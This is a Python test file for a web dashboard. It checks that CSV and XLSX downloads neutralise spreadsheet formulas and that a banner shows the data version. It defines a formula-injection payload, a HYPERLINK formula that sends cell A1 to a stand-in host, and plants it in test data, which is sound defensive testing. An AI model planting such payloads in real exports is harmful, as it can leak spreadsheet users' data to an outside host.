"""Dashboard downloads go through the CLI's writers: CSV formulas neutralised, XLSX with an
"About" sheet and text cells that are never formulas; the banner states the data as of."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import duckdb
import openpyxl
import pytest
from fastapi.testclient import TestClient

from parity.core.output import data_as_of
from parity.core.store import open_store
from parity.web.app import create_app
from parity.web.config import WebSettings

from .conftest import ROLE_USER, WebData, login

EVIL = '=HYPERLINK("http://x/?"&A1,"Click")'


@pytest.fixture(scope="module")
def evil_client(web_data: WebData) -> Iterator[tuple[TestClient, str]]:
    db = web_data.copy("evil")
    con = duckdb.connect(str(db))
    for table, column in (("staff", "entity"), ("openings", "entity"),
                          ("applications", "opening_entity")):
        con.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = 'DESA'", [EVIL])
    con.close()
    with open_store(db, read_only=True) as store:
        version = data_as_of(store).version
    with TestClient(create_app(WebSettings(db=db)), raise_server_exceptions=False) as client:
        assert login(client, ROLE_USER["analyst"]).status_code == 303
        yield client, version


def test_csv_download_neutralises_formulas(evil_client: tuple[TestClient, str]) -> None:
    client, _version = evil_client
    res = client.get("/views/composition/download/composition.csv",
                     params={"by": "entity", "by2": "gender", "entity": EVIL})
    assert res.status_code == 200, res.text
    rows = list(csv.reader(io.StringIO(res.text)))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_xlsx_download_has_about_sheet_and_no_formula(evil_client: tuple[TestClient, str]) -> None:
    client, version = evil_client
    res = client.get("/views/composition/download/composition.xlsx",
                     params={"by": "gender", "entity": EVIL})
    assert res.status_code == 200, res.text
    book = openpyxl.load_workbook(io.BytesIO(res.content))
    assert book.sheetnames == ["About", "composition"]
    about = [c for row in book["About"].iter_rows(values_only=True) for c in row if c]
    assert version in about and EVIL in about  # the filter, as text
    sheet = book["composition"]
    assert sheet.max_row > 2  # the staff of the entity named like a formula, by gender
    cells = [c for row in book["About"].iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula


def test_banner_states_the_data_as_of(evil_client: tuple[TestClient, str]) -> None:
    client, version = evil_client
    page = client.get("/views/composition")
    assert page.status_code == 200
    assert 'class="data-as-of"' in page.text and version in page.text
